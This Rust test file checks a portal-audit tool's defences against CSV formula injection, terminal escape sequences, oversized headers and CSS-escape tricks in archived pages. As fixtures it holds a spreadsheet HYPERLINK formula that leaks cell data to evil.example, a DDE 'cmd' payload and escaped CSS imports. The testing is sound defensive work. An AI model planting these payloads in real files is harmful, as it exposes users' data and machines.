//! Issue 23: what leaves the tool (CSV files) and what comes back (decisions files) under
//! hostile text. Each test is named after the finding it pins.

mod common;

use common::*;
use portal_audit::sim::server::{Reply, Request};
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

/// A formula a crawled page or a colleague's file can carry.
const HOSTILE_TEXT: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")";
const HOSTILE_REVIEWER: &str = "=cmd|' /C calc'!A0";
const HOSTILE_REASON: &str = "@SUM(1) -2+3 and \"quotes\",\nand a second line";

/// The world of these tests: 甲市's portal shows a Weibo link whose text is a formula and
/// a hotline, until `grown` is set; then the hotline is gone and the Weibo account changes.
struct World {
    dir: tempfile::TempDir,
    db: PathBuf,
    resolve: String,
    grown: Arc<AtomicBool>,
    _server: portal_audit::sim::server::Server,
}

impl World {
    async fn audited() -> World {
        let grown = Arc::new(AtomicBool::new(false));
        let g = grown.clone();
        let server = serve(Arc::new(move |req: &Request| {
            let body = match req.path() {
                "/" if g.load(Ordering::SeqCst) => format!(
                    "<a href=\"https://weibo.com/u/2001\">{}</a>",
                    html_escape(HOSTILE_TEXT)
                ),
                "/" => format!(
                    "<a href=\"https://weibo.com/-cmd\">{}</a><div class=\"foot\"><p>服务热线：12345</p></div>",
                    html_escape(HOSTILE_TEXT)
                ),
                _ => return Reply::not_found(),
            };
            Reply::html(page("甲市人民政府", &body))
        }))
        .await;
        let dir = tempfile::tempdir().unwrap();
        seeds(
            dir.path(),
            &["1,甲市,浙江省,key,east,http://www.jia.gov.cn/,,,,,"],
        );
        let w = World {
            db: dir.path().join("audit.db"),
            resolve: server.resolve_all(),
            dir,
            grown,
            _server: server,
        };
        w.audit().await;
        w
    }

    async fn audit(&self) {
        let out = audit_bin(&["run"], self.dir.path(), &self.resolve).await;
        assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    }

    /// Runs the binary with `args` and `--db` of this world's database.
    async fn bin(&self, args: &[&str]) -> std::process::Output {
        self.bin_on(&self.db, args).await
    }

    async fn bin_on(&self, db: &Path, args: &[&str]) -> std::process::Output {
        let mut v: Vec<String> = args.iter().map(|s| s.to_string()).collect();
        v.extend(["--db".to_string(), db.display().to_string()]);
        run_bin(v, self.dir.path()).await
    }

    async fn ok(&self, args: &[&str]) -> String {
        let out = self.bin(args).await;
        assert!(out.status.success(), "{args:?}: {}", text(&out));
        text(&out)
    }

    /// `review set 甲市 general CHANNEL VERDICT`, which must succeed.
    async fn set(&self, channel: &str, verdict: &str, reviewer: &str, reason: &str) {
        self.ok(&[
            "review",
            "set",
            "甲市",
            "general",
            channel,
            verdict,
            "--reviewer",
            reviewer,
            "--reason",
            reason,
        ])
        .await;
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    /// A copy of the database without its decisions: where a colleague's file lands.
    fn copy_without_decisions(&self, name: &str) -> PathBuf {
        let copy = self.path(name);
        conn(&self.db)
            .execute("VACUUM INTO ?1", [copy.display().to_string()])
            .unwrap();
        conn(&copy).execute("DELETE FROM decisions", []).unwrap();
        copy
    }
}

fn html_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('"', "&quot;")
}

/// Every cell of a CSV file (after its BOM), header included.
fn cells(path: &Path) -> Vec<String> {
    let bytes = std::fs::read(path).unwrap();
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(&bytes);
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(body);
    r.records()
        .flat_map(|rec| rec.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

/// The decisions table without its row ids (which a copy may number differently).
fn decisions(db: &Path) -> Vec<Vec<String>> {
    let c = conn(db);
    let mut st = c
        .prepare(
            "SELECT city_id, sector, channel, verdict, reason, reviewer, decided_at,
                    COALESCE(run_id, -1), computed, finding_ids, evidence FROM decisions ORDER BY id",
        )
        .unwrap();
    st.query_map([], |r| {
        (0..11)
            .map(|i| {
                r.get::<_, rusqlite::types::Value>(i).map(|v| match v {
                    rusqlite::types::Value::Text(t) => t,
                    rusqlite::types::Value::Integer(n) => n.to_string(),
                    other => format!("{other:?}"),
                })
            })
            .collect::<Result<Vec<_>, _>>()
    })
    .unwrap()
    .collect::<Result<_, _>>()
    .unwrap()
}

/// Hardening 1: crawled link text, account ids, a reviewer's name and reason reached
/// every CSV unchanged, where a spreadsheet runs them as formulas. Every CSV cell that
/// begins with `=`, `+`, `-`, `@`, tab or CR now carries a leading `'`, and `review
/// import` reads the neutralised form back to the original text.
#[tokio::test]
async fn formula_injection_is_neutralised_in_every_csv() {
    let w = World::audited().await;
    w.set("weibo", "no", HOSTILE_REVIEWER, HOSTILE_REASON).await;
    w.grown.store(true, Ordering::SeqCst);
    w.audit().await;
    let mut files = Vec::new();
    for (what, name) in [
        ("matrix", "matrix.csv"),
        ("summary", "summary.csv"),
        ("accounts", "accounts.csv"),
    ] {
        let out = w.path(name).display().to_string();
        // Run 1: the one whose Weibo account id begins with `-`.
        w.ok(&[
            "export", what, "--format", "csv", "--out", &out, "--run", "1",
        ])
        .await;
        files.push(w.path(name));
    }
    let pack = w.path("pack").display().to_string();
    w.ok(&["export", "evidence", "--out", &pack, "--run", "1"])
        .await;
    files.push(w.path("pack/findings.csv"));
    w.ok(&["review", "export", "--out", "decisions.csv"]).await;
    files.push(w.path("decisions.csv"));
    for (args, name) in [
        (&["review", "list", "--format", "csv"][..], "queue.csv"),
        (&["diff", "1", "2", "--format", "csv"][..], "diff.csv"),
    ] {
        let out = w.bin(args).await;
        assert!(out.status.success(), "{}", text(&out));
        std::fs::write(w.path(name), &out.stdout).unwrap();
        files.push(w.path(name));
    }
    let mut seen_quoted = std::collections::BTreeSet::new();
    for f in &files {
        for c in cells(f) {
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{}: a cell a spreadsheet would run: {c:?}",
                f.display()
            );
            if c.starts_with('\'') {
                seen_quoted.insert(f.file_name().unwrap().to_string_lossy().to_string());
            }
        }
    }
    for want in [
        "findings.csv",
        "decisions.csv",
        "matrix.csv",
        "accounts.csv",
    ] {
        assert!(
            seen_quoted.contains(want),
            "{want} carries no neutralised cell: {seen_quoted:?}"
        );
    }
    let findings = cells(&w.path("pack/findings.csv"));
    assert!(
        findings.contains(&format!("'{HOSTILE_TEXT}")),
        "the link text is kept, behind one quote"
    );
    // Read back: the neutralised form is the original text again.
    let copy = w.copy_without_decisions("copy.db");
    let out = w
        .bin_on(&copy, &["review", "import", "decisions.csv"])
        .await;
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(decisions(&copy), decisions(&w.db));
    let reviewer: String = scalar(&copy, "SELECT reviewer FROM decisions");
    assert_eq!(reviewer, HOSTILE_REVIEWER);
}

/// Hardening 6: `review export` then `review import` re-recorded each decision against
/// today's evidence, so a stale decision came back fresh. The file carries the evidence
/// it was made on; the decision stays stale.
#[tokio::test]
async fn a_stale_decision_stays_stale_through_export_and_import() {
    let w = World::audited().await;
    w.set("hotline", "yes", "王审", "12345 in the footer").await;
    w.grown.store(true, Ordering::SeqCst);
    w.audit().await;
    let stale = |db: &Path| {
        let m = portal_audit::export::matrix::load(&conn(db), None).unwrap();
        let mut m = m;
        portal_audit::review::apply(&conn(db), &mut m).unwrap();
        m.cities[0]
            .cells
            .iter()
            .find(|c| c.channel.as_str() == "hotline" && c.sector.as_str() == "general")
            .and_then(|c| c.review.as_ref())
            .map(|r| r.stale)
    };
    assert_eq!(stale(&w.db), Some(true), "the hotline is gone since");
    w.ok(&["review", "export", "--out", "decisions.csv"]).await;
    let copy = w.copy_without_decisions("copy.db");
    let out = w
        .bin_on(&copy, &["review", "import", "decisions.csv"])
        .await;
    assert!(out.status.success(), "{}", text(&out));
    assert_eq!(stale(&copy), Some(true), "still stale after the round trip");
    assert_eq!(decisions(&copy), decisions(&w.db));
    // Through the binary, as the matrix CSV shows it.
    let out = w
        .bin_on(
            &copy,
            &["export", "matrix", "--format", "csv", "--out", "-"],
        )
        .await;
    let t = text(&out);
    let row = t.lines().find(|l| l.contains(",general,hotline,")).unwrap();
    // review_stale, then unknown_reason and carried_forward_from (both empty).
    assert!(row.ends_with(",yes,,"), "review_stale is yes: {row}");
}

/// Hardening 7: two verdicts for one cell in one file were accepted, the last silently
/// winning. The file is refused, naming both lines; a history ordered by its times is not
/// a conflict.
#[tokio::test]
async fn conflicting_verdicts_in_one_file_are_refused_naming_both_lines() {
    let w = World::audited().await;
    let head = "city,sector,channel,verdict,reason,reviewer,decided_at\n";
    std::fs::write(
        w.path("conflict.csv"),
        format!(
            "{head}甲市,general,weibo,yes,seen,李,\n甲市,general,hotline,yes,seen,李,\n甲市,general,weibo,no,\"not theirs,\nreally\",王,\n"
        ),
    )
    .unwrap();
    let out = w.bin(&["review", "import", "conflict.csv"]).await;
    let t = text(&out);
    assert_eq!(out.status.code(), Some(2), "{t}");
    assert!(
        t.contains("conflict.csv:2 and conflict.csv:4: conflicting verdicts on 1 general weibo"),
        "{t}"
    );
    assert_eq!(scalar::<i64>(&w.db, "SELECT COUNT(*) FROM decisions"), 0);
    // Two verdicts at the same time: refused too.
    std::fs::write(
        w.path("same-time.csv"),
        format!(
            "{head}甲市,general,weibo,yes,a,李,2026-03-02T08:00:00+08:00\n甲市,general,weibo,no,b,王,2026-03-02T00:00:00Z\n"
        ),
    )
    .unwrap();
    let out = w.bin(&["review", "import", "same-time.csv"]).await;
    let t = text(&out);
    assert_eq!(out.status.code(), Some(2), "{t}");
    assert!(t.contains("same-time.csv:2 and same-time.csv:3"), "{t}");
    // Verdicts at different times are a history, in whatever order the file lists
    // them: accepted, and the later one is in force.
    std::fs::write(
        w.path("history.csv"),
        format!(
            "{head}甲市,general,weibo,no,b,李,2026-03-02T00:00:00Z\n甲市,general,weibo,yes,a,李,2026-03-01T00:00:00Z\n"
        ),
    )
    .unwrap();
    let t = w.ok(&["review", "import", "history.csv"]).await;
    assert!(t.contains("2 decisions imported"), "{t}");
    let out = w
        .bin(&["export", "matrix", "--format", "csv", "--out", "-"])
        .await;
    let t = text(&out);
    let row = t.lines().find(|l| l.contains(",general,weibo,")).unwrap();
    assert!(
        row.contains(",weibo,no,"),
        "the later verdict is in force: {row}"
    );
}

/// Hardening 8: importing the tool's own export doubled every decision. A decision
/// recorded already (same cell, verdict, reviewer, time, evidence) is skipped and
/// reported as such.
#[tokio::test]
async fn reimporting_an_export_records_nothing_twice() {
    let w = World::audited().await;
    for (channel, verdict) in [("weibo", "no"), ("hotline", "yes")] {
        w.set(channel, verdict, "王审", "checked").await;
    }
    w.ok(&["review", "export", "--out", "decisions.csv"]).await;
    let before = decisions(&w.db);
    for _ in 0..2 {
        let t = w.ok(&["review", "import", "decisions.csv"]).await;
        assert!(
            t.contains("0 decisions imported") && t.contains("2 were recorded already"),
            "{t}"
        );
    }
    assert_eq!(decisions(&w.db), before);
}

/// Hardening 10: a time in the future or not RFC 3339, control characters in a name or
/// a reason, and a 50 MB reason were all recorded. Each is refused with its line, and
/// `review history` never prints a stored control character raw.
#[tokio::test]
async fn decision_times_names_and_reasons_are_checked() {
    let w = World::audited().await;
    let head = "city,sector,channel,verdict,reason,reviewer,decided_at\n";
    let long = "长".repeat(portal_audit::review::MAX_REASON_CHARS + 1);
    let cases = [
        (
            "甲市,general,weibo,yes,ok,李,2999-01-01T00:00:00Z",
            "in the future",
        ),
        (
            "甲市,general,weibo,yes,ok,李,yesterday",
            "not an RFC 3339 time",
        ),
        (
            "甲市,general,weibo,yes,ok,\"李\u{1b}]0;owned\u{7}\",",
            "control character",
        ),
        (
            "甲市,general,weibo,yes,\"ok\u{0}\",李,",
            "control character",
        ),
        (
            &format!("甲市,general,weibo,yes,{long},李,")[..],
            "at most 4000",
        ),
    ];
    for (i, (line, want)) in cases.iter().enumerate() {
        let name = format!("bad{i}.csv");
        std::fs::write(w.path(&name), format!("{head}{line}\n")).unwrap();
        let out = w.bin(&["review", "import", &name]).await;
        let t = text(&out);
        assert_eq!(out.status.code(), Some(2), "{line}: {t}");
        assert!(
            t.contains(&format!("{name}:2: ")) && t.contains(want),
            "{t}"
        );
    }
    let out = w
        .bin(&[
            "review",
            "set",
            "甲市",
            "general",
            "weibo",
            "no",
            "--reviewer",
            "李",
            "--reason",
            "bell\u{7}",
        ])
        .await;
    assert_eq!(out.status.code(), Some(2), "{}", text(&out));
    assert_eq!(scalar::<i64>(&w.db, "SELECT COUNT(*) FROM decisions"), 0);
    // A database written by an older build may hold anything: shown escaped.
    w.set("weibo", "no", "李", "fine").await;
    conn(&w.db)
        .execute(
            "UPDATE decisions SET reason = 'x\u{1b}[2Jy', reviewer = 'z\u{7}'",
            [],
        )
        .unwrap();
    let out = w.bin(&["review", "history", "甲市"]).await;
    assert!(
        !out.stdout.iter().any(|b| matches!(b, 0x1b | 0x07)),
        "{}",
        text(&out)
    );
    assert!(text(&out).contains("x\\u{1b}[2Jy"), "{}", text(&out));
}

/// Hardening 11: `review import` with a `--db` that does not exist created an empty
/// database (and its folder) before failing. It refuses first.
#[tokio::test]
async fn review_import_with_a_missing_database_creates_nothing() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("d.csv"),
        "city,sector,channel,verdict,reason\n甲市,general,weibo,yes,ok\n",
    )
    .unwrap();
    let missing = dir.path().join("nowhere/audit.db");
    let out = run_bin(
        vec![
            "review".into(),
            "import".into(),
            "d.csv".into(),
            "--db".into(),
            missing.display().to_string(),
        ],
        dir.path(),
    )
    .await;
    let t = text(&out);
    assert_ne!(out.status.code(), Some(0), "{t}");
    assert!(t.contains("no audit database at"), "{t}");
    assert!(!dir.path().join("nowhere").exists(), "nothing created");
}

/// A database audited twice (the hotline gone in the second audit) holding two decisions
/// made on the first, stale since: the start of every property case.
fn template() -> &'static Path {
    static TEMPLATE: std::sync::OnceLock<PathBuf> = std::sync::OnceLock::new();
    TEMPLATE.get_or_init(|| {
        let rt = tokio::runtime::Runtime::new().unwrap();
        let w = rt.block_on(async {
            let w = World::audited().await;
            for (channel, verdict) in [("hotline", "yes"), ("weibo", "no")] {
                w.set(channel, verdict, "王审", "made on the first audit")
                    .await;
            }
            w.grown.store(true, Ordering::SeqCst);
            w.audit().await;
            w
        });
        let db = w.db.clone();
        Box::leak(Box::new((w, rt)));
        db
    })
}

/// A copy of the template for one case.
fn case_db(dir: &Path, with_decisions: bool) -> PathBuf {
    let copy = dir.join(format!("case-{with_decisions}.db"));
    conn(template())
        .execute("VACUUM INTO ?1", [copy.display().to_string()])
        .unwrap();
    if !with_decisions {
        conn(&copy).execute("DELETE FROM decisions", []).unwrap();
    }
    copy
}

/// A reason a colleague's file or a page can hold: formula triggers, quotes, separators,
/// line breaks, tabs, Chinese and a direction override.
fn hostile_reason() -> impl proptest::strategy::Strategy<Value = String> {
    proptest::string::string_regex("[=+@'\"\t\r\n, a-z甲市；\u{202E}\\-]{0,40}").unwrap()
}

/// A reviewer's name as hostile as the checks let through (no control characters).
fn hostile_name() -> impl proptest::strategy::Strategy<Value = String> {
    proptest::string::string_regex("[=+@'\" ,a-z李王\u{202E}\\-]{0,12}").unwrap()
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 48, ..Default::default() })]

    /// Hardening, done means: `review export | review import` is an identity on the
    /// decisions table, whether the table already holds the decisions (nothing recorded
    /// twice) or not (each comes back as it was, its basis and stale flag included).
    #[test]
    fn review_export_then_import_is_an_identity(
        made in proptest::collection::vec(
            (0usize..4, proptest::bool::ANY, hostile_reason(), hostile_name()),
            0..6,
        )
    ) {
        use portal_audit::review::{self, NewDecision, Verdict};
        let dir = tempfile::tempdir().unwrap();
        let db = case_db(dir.path(), true);
        let c = conn(&db);
        let mut m = portal_audit::export::matrix::load(&c, None).unwrap();
        review::apply(&c, &mut m).unwrap();
        let cells = ["weibo", "hotline", "wechat", "email"];
        for (i, (cell, yes, reason, reviewer)) in made.iter().enumerate() {
            let at = format!("2026-0{}-01T08:00:{:02}.000Z", 1 + i % 9, i);
            // Refused ones (control characters, no reason) are simply not recorded.
            let _ = review::decide(&c, &m, &NewDecision {
                city_id: "1",
                sector: portal_audit::model::Sector::General,
                channel: cells[*cell],
                verdict: if *yes { Verdict::Yes } else { Verdict::No },
                reason,
                reviewer,
                decided_at: Some(&at),
            });
        }
        let table = decisions(&db);
        let file = review::to_csv(&review::all(&c).unwrap());
        let again = review::import(&c, &m, &file, "export.csv").unwrap();
        proptest::prop_assert_eq!(again.imported, 0);
        proptest::prop_assert_eq!(again.already, table.len());
        proptest::prop_assert_eq!(&decisions(&db), &table);
        let fresh = case_db(dir.path(), false);
        let fc = conn(&fresh);
        let r = review::import(&fc, &m, &file, "export.csv").unwrap();
        proptest::prop_assert_eq!(r.imported, table.len());
        proptest::prop_assert_eq!(&decisions(&fresh), &table);
    }
}

/// Hardening 14: a server answering with 10,000 headers or one header of 1 MB was
/// recorded as `unreachable` (the host answered: it is not down). It is a protocol error,
/// with the reason.
#[tokio::test]
async fn a_server_answering_with_huge_headers_is_a_protocol_error() {
    let server = serve(Arc::new(|req: &Request| {
        let mut r = Reply::html(page("甲市", "<p>x</p>"));
        match req.host.as_str() {
            "www.many.gov.cn" => {
                for i in 0..10_000 {
                    r = r.header(&format!("X-H{i}"), "v");
                }
            }
            _ => r = r.header("X-Big", &"v".repeat(1 << 20)),
        }
        r
    }))
    .await;
    let dir = tempfile::tempdir().unwrap();
    let seeds = seeds(
        dir.path(),
        &[
            "1,甲市,浙江省,key,east,http://www.many.gov.cn/,,,,,",
            "2,乙市,浙江省,key,east,http://www.big.gov.cn/,,,,,",
        ],
    );
    let db = db(dir.path());
    // robots.txt answers the same way: the site fails as what it is, not as blocked.
    audit(&db, &seeds, all(), config(&server)).await;
    for city in ["1", "2"] {
        let want = "headers are too many or too large";
        let (outcome, error): (String, String) = conn(&db)
            .query_row(
                "SELECT outcome, COALESCE(error, '') FROM sites WHERE city_id = ?1",
                [city],
                |r| Ok((r.get(0)?, r.get(1)?)),
            )
            .unwrap();
        assert_eq!(outcome, "protocol-error", "{city}: {error}");
        assert!(error.contains(want), "{city}: {error}");
    }
}

/// Runs the binary with `args` in `cwd` as on a disk that is full beyond `max_file`
/// bytes: a file written past that size fails with EFBIG (RLIMIT_FSIZE, with SIGXFSZ
/// ignored so that the write fails instead of killing the process).
#[cfg(unix)]
fn run_bin_on_full_disk(args: &[&str], cwd: &Path, max_file: u64) -> std::process::Output {
    use std::os::unix::process::CommandExt;
    let mut cmd = std::process::Command::new(BIN);
    cmd.args(args).current_dir(cwd);
    // SAFETY: only async-signal-safe calls (setrlimit, signal) between fork and exec.
    unsafe {
        cmd.pre_exec(move || {
            let lim = libc::rlimit {
                rlim_cur: max_file,
                rlim_max: max_file,
            };
            if libc::setrlimit(libc::RLIMIT_FSIZE, &lim) != 0 {
                return Err(std::io::Error::last_os_error());
            }
            libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
            Ok(())
        });
    }
    cmd.output().unwrap()
}

/// Hardening 4: an evidence pack that failed midway (a full disk, an id that made a bad
/// file name) left half a pack without a manifest, which then blocked every retry. A
/// pack is written beside its folder and moved into place whole: a failed export leaves
/// the previous pack as it was and nothing else, and a retry works. Files exported
/// singly (matrix, xlsx, WARC) are replaced whole or not at all in the same way.
#[cfg(unix)]
#[tokio::test]
async fn a_failed_export_leaves_nothing_behind_and_a_retry_works() {
    // A homepage of ~200 KB: its archived copy is the pack's one big file.
    // Long targets of noise besides: the workbook cannot compress them below 40 KB.
    let mut seed = 7u64;
    let mut noise = |n: usize| -> String {
        (0..n)
            .map(|_| {
                seed = seed
                    .wrapping_mul(6364136223846793005)
                    .wrapping_add(1442695040888963407);
                char::from(b"abcdefghijklmnopqrstuvwxyz0123456789"[(seed >> 33) as usize % 36])
            })
            .collect()
    };
    let links: String = (0..3)
        .map(|_| format!("<a href=\"https://weibo.com/{}\">微博</a>", noise(30_000)))
        .collect();
    let big = format!(
        "<a href=\"https://weibo.com/jiashi\">甲市发布</a>{links}{}",
        "<p>政务公开 通知公告</p>".repeat(8_000)
    );
    let server = serve(routes(vec![html("www.a.gov.cn/", page("甲市", &big))])).await;
    let dir = tempfile::tempdir().unwrap();
    seeds(
        dir.path(),
        &["1,甲市,浙江省,key,east,http://www.a.gov.cn/,,,,,"],
    );
    let out = audit_bin(&["run"], dir.path(), &server.resolve_all()).await;
    assert!(out.status.success(), "{}", text(&out));
    let listing = |d: &Path| {
        let mut v: Vec<String> = std::fs::read_dir(d)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| !n.starts_with("audit.db-")) // SQLite's own -wal and -shm
            .collect();
        v.sort();
        v
    };
    let before = listing(dir.path());
    let full_at = |args: &[&str], max_file: u64| {
        let mut v = args.to_vec();
        v.extend(["--db", "audit.db"]);
        run_bin_on_full_disk(&v, dir.path(), max_file)
    };
    let full = |args: &[&str]| full_at(args, 100_000);
    // No pack yet: the failed export leaves no folder and no staging folder.
    let out = full(&["export", "evidence", "--out", "pack"]);
    assert!(!out.status.success(), "{}", text(&out));
    assert!(
        text(&out).contains("pack"),
        "the error names the pack: {}",
        text(&out)
    );
    assert_eq!(listing(dir.path()), before, "nothing left behind");
    // A retry with room writes the pack.
    let ok = |args: &[&str]| {
        let mut v: Vec<String> = args.iter().map(|s| s.to_string()).collect();
        v.extend(["--db".to_string(), "audit.db".to_string()]);
        let dir = dir.path().to_path_buf();
        async move {
            let out = run_bin(v, &dir).await;
            assert!(out.status.success(), "{}", text(&out));
        }
    };
    ok(&["export", "evidence", "--out", "pack"]).await;
    let pack = listing(&dir.path().join("pack"));
    assert!(pack.contains(&"evidence-pack.txt".to_string()), "{pack:?}");
    std::fs::write(dir.path().join("pack/notes.txt"), "mine").unwrap();
    let old_index = std::fs::read(dir.path().join("pack/index.html")).unwrap();
    // A failing export over it leaves the previous pack as it was.
    let out = full(&["export", "evidence", "--out", "pack"]);
    assert!(!out.status.success(), "{}", text(&out));
    assert_eq!(listing(&dir.path().join("pack")), {
        let mut p = pack.clone();
        p.push("notes.txt".into());
        p.sort();
        p
    });
    assert_eq!(
        std::fs::read(dir.path().join("pack/index.html")).unwrap(),
        old_index
    );
    // And a retry replaces it, keeping the person's file.
    ok(&["export", "evidence", "--out", "pack"]).await;
    assert_eq!(
        std::fs::read_to_string(dir.path().join("pack/notes.txt")).unwrap(),
        "mine"
    );
    // Single files: the old one stays whole when the new one cannot be written.
    ok(&["export", "matrix", "--format", "xlsx", "--out", "m.xlsx"]).await;
    ok(&[
        "export",
        "evidence",
        "--out",
        "pack",
        "--warc",
        "pages.warc",
    ])
    .await;
    let (xlsx, warc) = (
        std::fs::read(dir.path().join("m.xlsx")).unwrap(),
        std::fs::read(dir.path().join("pages.warc")).unwrap(),
    );
    assert!(xlsx.len() > 40_000, "{}", xlsx.len());
    let out = full_at(
        &["export", "matrix", "--format", "xlsx", "--out", "m.xlsx"],
        40_000,
    );
    assert!(!out.status.success(), "{}", text(&out));
    assert!(text(&out).contains("m.xlsx"), "{}", text(&out));
    let out = full(&[
        "export",
        "evidence",
        "--out",
        "pack2",
        "--warc",
        "pages.warc",
    ]);
    assert!(!out.status.success(), "{}", text(&out));
    assert_eq!(std::fs::read(dir.path().join("m.xlsx")).unwrap(), xlsx);
    assert_eq!(std::fs::read(dir.path().join("pages.warc")).unwrap(), warc);
    let after = listing(dir.path());
    assert!(
        after.iter().all(|n| !n.starts_with('.')),
        "no staging file or folder left: {after:?}"
    );
}

/// Hardening 5: CSS escapes (`@\69mport`, `\75 rl(…)`, `u\72l(…)`) survived the rewrite
/// of `<style>` and `style=` in archived pages, held back only by the page's CSP. The
/// rewrite reads CSS as a browser does; opened without its CSP, the page still loads
/// nothing.
#[tokio::test]
async fn css_escapes_in_archived_pages_load_nothing_even_without_the_csp() {
    let canary = serve(Arc::new(|_: &Request| Reply::html("<p>canary</p>"))).await;
    let c = format!("http://127.0.0.1:{}", canary.addr.port());
    let body = format!(
        r##"<style>@\69mport "{c}/import1"; @\69 mport url({c}/import2);
.a{{background:\75 rl({c}/escaped1)}} .b{{background:u\72l("{c}/escaped2")}}
.c{{background-image:image-set("{c}/set" 1x)}} .d{{background:U\52 L({c}/escaped3)}}
@media screen{{.e{{background:\000075rl({c}/escaped4)}}}}
.a,.b,.c,.d,.e{{width:20px;height:20px}}</style>
<div class="a">a</div><div class="b">b</div><div class="c">c</div><div class="d">d</div><div class="e">e</div>
<div style="width:20px;height:20px;background:\75 rl({c}/inline)">i</div>
<a href="https://weibo.com/jiashi">甲市发布</a><p id="marker">archived-marker</p>"##
    );
    let server = serve(routes(vec![html("www.a.gov.cn/", page("甲市", &body))])).await;
    let dir = tempfile::tempdir().unwrap();
    seeds(
        dir.path(),
        &["1,甲市,浙江省,key,east,http://www.a.gov.cn/,,,,,"],
    );
    let db = db(dir.path());
    audit(&db, &dir.path().join("cities.csv"), all(), config(&server)).await;
    assert!(canary.targets().is_empty(), "the crawl reached the canary");
    let conn = portal_audit::store::open_ro(&db).unwrap();
    let m = portal_audit::export::matrix::load(&conn, None).unwrap();
    let pack = dir.path().join("pack");
    portal_audit::export::evidence::write_pack(&conn, &m, &pack).unwrap();
    let page_file = std::fs::read_dir(pack.join("pages"))
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let archived = std::fs::read_to_string(&page_file).unwrap();
    assert_eq!(archived.matches("@inert-import").count(), 2, "{archived}");
    assert!(archived.contains("data-inert-style="), "{archived}");
    // Without the policy: only the rewrite stands between the page and the canary.
    let csp_at = archived
        .find("http-equiv=\"Content-Security-Policy\"")
        .unwrap();
    let csp_start = archived[..csp_at].rfind("<meta").unwrap();
    let csp_end = csp_start + archived[csp_start..].find('>').unwrap() + 1;
    let bare = format!("{}{}", &archived[..csp_start], &archived[csp_end..]);
    assert!(!bare.contains("Content-Security-Policy"));
    let bare_file = dir.path().join("bare.html");
    std::fs::write(&bare_file, bare).unwrap();
    // Off the runtime's thread: the canary must be able to answer (and be heard).
    let opened = tokio::task::spawn_blocking(move || chromium_dom(&bare_file, 2000));
    let Some((dom, stderr)) = opened.await.unwrap() else {
        eprintln!("chromium not installed: the browser half of this test is skipped");
        return;
    };
    assert!(dom.contains("archived-marker"), "{dom}\n{stderr}");
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    assert!(
        canary.targets().is_empty(),
        "the archived page made requests without its CSP: {:?}",
        canary.targets()
    );
}
